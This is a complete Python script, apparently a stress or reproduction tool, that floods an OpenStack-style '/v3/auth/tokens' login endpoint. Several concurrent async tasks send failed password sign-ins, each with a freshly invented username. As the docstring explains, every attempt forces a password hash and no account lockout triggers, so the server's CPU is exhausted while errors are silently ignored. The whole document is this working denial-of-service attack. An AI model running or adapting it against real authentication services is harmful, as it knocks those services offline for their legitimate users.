"""Sign in with unknown names: each costs a password hash, and no account is locked."""

from __future__ import annotations

import asyncio
import itertools
from contextlib import suppress

import httpx

_ANSWER_S = 60.0


async def attack(url: str, *, seconds: float, at_once: int = 8, source: str = "127.0.0.1") -> None:
    """Send failing sign-ins; ignore errors of the server.

    Args:
        url: URL of the server.
        seconds: Duration.
        at_once: Concurrent sign-ins.
        source: Local address to call from.
    """
    names = itertools.count()
    transport = httpx.AsyncHTTPTransport(local_address=source)
    async with httpx.AsyncClient(base_url=url, transport=transport, timeout=_ANSWER_S) as client:
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds), asyncio.TaskGroup() as group:
                for _ in range(at_once):
                    group.create_task(_guess(client, names))


async def _guess(client: httpx.AsyncClient, names: itertools.count[int]) -> None:
    """Sign in with a new name each time."""
    while True:
        user = {
            "name": f"invented-{next(names)}",
            "password": "wrong password",
            "domain": {"name": "default"},
        }
        body = {"auth": {"identity": {"methods": ["password"], "password": {"user": user}}}}
        with suppress(httpx.HTTPError):
            await client.post("/v3/auth/tokens", json=body)
